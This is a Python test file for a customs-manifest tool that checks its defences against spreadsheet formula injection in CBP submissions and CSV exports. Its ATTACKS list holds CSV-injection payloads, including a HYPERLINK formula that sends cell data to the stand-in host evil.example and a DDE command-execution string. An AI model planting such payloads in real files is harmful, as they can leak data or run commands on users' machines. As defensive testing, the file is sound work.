"""Formula injection (issue 10 item 5): refused in what goes to CBP, neutralised in every CSV
meant for a spreadsheet; negative numbers and phones with their "+" still work."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ace321.exports.spreadsheet import csv_text, safe_cell, safe_frame
from ace321.validation.formulas import formula_like

ACE321 = Path(sys.executable).parent / "ace321"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "=1+1"]
HEADER = [
    "order_id", "shipment_id", "arrival_date", "shipper_name", "shipper_address", "shipper_city",
    "shipper_state", "shipper_postal_code", "shipper_country", "consignee_name",
    "consignee_address", "consignee_city", "consignee_state", "consignee_postal_code",
    "consignee_country", "consignee_phone", "sku", "description", "quantity", "unit_price",
    "currency", "country_of_origin", "hts_code", "weight", "weight_unit",
]


def _row(order: str, **overrides: str) -> dict[str, str]:
    values = dict(zip(HEADER, [
        order, "", "2024-06-03", "Maple Fulfilment Inc.", "2500 Dixie Rd", "Mississauga", "ON",
        "L4Y 2A1", "CA", f"Ana Ruiz {order}", "12 Elm St", "Buffalo", "NY", "14201", "US",
        "+1 716-462-0101", "SKU-1", "COTTON T-SHIRT", "1", "20.00", "USD", "CA", "6109.10.0012",
        "0.4", "kg"], strict=True))
    values.update(overrides)
    return values


def _write(path: Path, rows: list[dict[str, str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(dict.fromkeys(k for r in rows for k in r)),
                                restval="")
        writer.writeheader()
        writer.writerows(rows)
    return path


def _screen(rows: list[dict[str, str]]):
    from ace321.intake import frame_from_shipments
    from ace321.rules import load_rules
    from ace321.screening.engine import screen

    shipments = []
    for r in rows:
        head = {k: v for k, v in r.items() if not k.startswith("line_")}
        line = {k.removeprefix("line_"): v for k, v in r.items() if k.startswith("line_")}
        shipments.append({**head, "lines": [{
            "sku": "SKU-1", "description": "COTTON T-SHIRT", "quantity": "1",
            "unit_price": "20.00", "currency": "USD", "country_of_origin": "CA",
            "hts_code": "6109.10.0012", "weight": "0.4", "weight_unit": "kg", **line}]})
    return screen(frame_from_shipments(shipments), rules=load_rules())


def _shipment(shipment_id: str, **fields: str) -> dict[str, str]:
    row = _row(shipment_id)
    head = {k: v for k, v in row.items() if k in HEADER[:16]}
    head["shipment_id"] = shipment_id
    head.update(fields)
    return head


@pytest.mark.parametrize("field", ["consignee_name", "consignee_address", "consignee_city",
                                   "shipper_name", "shipper_address", "line_description",
                                   "line_marks", "line_hazmat_contact_name"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_refused_in_fields_that_go_to_cbp(field, attack):
    result = _screen([_shipment("X1", **{field: attack}), _shipment("OK1")])
    by_id = {s["shipment_id"]: s for s in result.shipments.iter_rows(named=True)}
    assert by_id["X1"]["decision"] == "INVALID"
    assert by_id["OK1"]["decision"] != "INVALID"
    issues = [i for i in by_id["X1"]["issues"] if i["code"] == "FORMULA_TEXT"]
    assert len(issues) == 1 and issues[0]["severity"] == "error"
    assert issues[0]["field"].endswith(field.removeprefix("line_").replace("consignee_", "")
                                       .replace("shipper_", ""))
    assert issues[0]["row"] == 1


def test_legitimate_leading_characters_still_work():
    result = _screen([
        _shipment("P1", consignee_phone="+1 716-462-0101"),
        _shipment("P2", line_hazmat_un="UN1993", line_hazmat_contact_name="Chem Desk",
                  line_hazmat_contact_phone="+1 (800) 424-9300"),
        _shipment("P3", consignee_name="Ana-Maria O'Neil", line_description="T-SHIRT, 100% COTTON"),
    ])
    by_id = {s["shipment_id"]: s for s in result.shipments.iter_rows(named=True)}
    for shipment_id in ("P1", "P2", "P3"):
        codes = {i["code"] for i in by_id[shipment_id]["issues"] or []}
        assert "FORMULA_TEXT" not in codes, (shipment_id, by_id[shipment_id]["issues"])
    bad = _screen([_shipment("P4", line_hazmat_un="UN1993", line_hazmat_contact_name="Desk",
                             line_hazmat_contact_phone="+1 800=HYPERLINK(1)")])
    assert "FORMULA_TEXT" in {i["code"] for i in bad.shipments.row(0, named=True)["issues"]}
    phone = _screen([_shipment("P5", consignee_phone="=1+716")])
    assert {i["code"] for i in phone.shipments.row(0, named=True)["issues"]} >= {"INVALID_PHONE"}


def test_spreadsheet_csv_neutralises_and_keeps_numbers():
    frame = pl.DataFrame({"text": [*ATTACKS, "\tx", "\rx", "plain", None],
                          "number": ["-12.50", "+17165550101", "3", "-0.5", ".5", "-", "+",
                                     "-1e5", "x"]})
    text = csv_text(frame)
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert [r[0] for r in rows[:5]] == ["'" + a for a in ATTACKS]
    assert rows[5][0] == "'\tx" and rows[6][0] == "'\rx" and rows[7][0] == "plain"
    assert [r[1] for r in rows] == ["-12.50", "+17165550101", "3", "-0.5", ".5", "'-", "'+",
                                    "'-1e5", "x"]
    assert safe_frame(pl.DataFrame({"n": [-1, 2]}))["n"].to_list() == [-1, 2]


@given(st.text(max_size=20))
def test_no_neutralised_cell_starts_like_a_formula(value):
    out = safe_cell(value)
    assert not formula_like(out)
    assert out == value or out == "'" + value
    assert safe_frame(pl.DataFrame({"v": [value]}))["v"][0] == out


def test_check_and_risk_csv_files_and_stdout_are_neutralised(tmp_path):
    orders = _write(tmp_path / "orders.csv", [
        _row("=HYPERLINK(\"http://x\")"), _row("@SUM(1+1)"), _row("-42"), _row("A1")])
    texts = []
    for command in (["check"], ["check", "--costs"], ["risk"]):
        out = tmp_path / f"result{len(texts)}.csv"
        result = subprocess.run([str(ACE321), *command, str(orders), "--output", str(out)],
                                capture_output=True, text=True, timeout=120)
        assert result.returncode == 0, result.stderr
        texts.append(out.read_text())
        texts.append(subprocess.run(
            [str(ACE321), *command, str(orders), "--format", "csv"], capture_output=True,
            text=True, timeout=120).stdout)
    for text in texts:
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'=HYPERLINK(\"http://x\")" in cells and "'@SUM(1+1)" in cells
        assert "-42" in cells  # an order id that is a plain number stays as it is
        assert not any(formula_like(cell) for cell in cells)


def test_trip_file_text_is_refused():
    import copy
    import datetime as dt

    from ace321.manifest.model import Trip
    from ace321.manifest.validation import validate_trip
    from ace321.reference.ports import load_ports

    base = {
        "carrier_scac": "MAPL", "trip_number": "MAPL20261123A", "port_of_arrival": "0901",
        "estimated_arrival": "2026-11-23T14:30:00-05:00", "province_of_loading": "ON",
        "truck": {"number": "T12", "type": "TR", "vin": "1FUJGLDR3CLBP8834",
                  "license_plates": [{"number": "AB12345", "state_province": "ON",
                                      "country": "CA"}]},
        "drivers": [{"first_name": "=HYPERLINK(1)", "last_name": "Silva", "gender": "F",
                     "date_of_birth": "1985-04-12", "citizenship_country": "CA",
                     "fast_card_number": "42705555555501"}],
    }
    trip = Trip.model_validate(copy.deepcopy(base))
    issues = validate_trip(trip, filed_at=dt.datetime(2026, 11, 23, 10, tzinfo=dt.UTC),
                           shipment_count=1, ports=load_ports())
    assert ("FORMULA_TEXT", "drivers[0].first_name") in {(i.code, i.field) for i in issues}
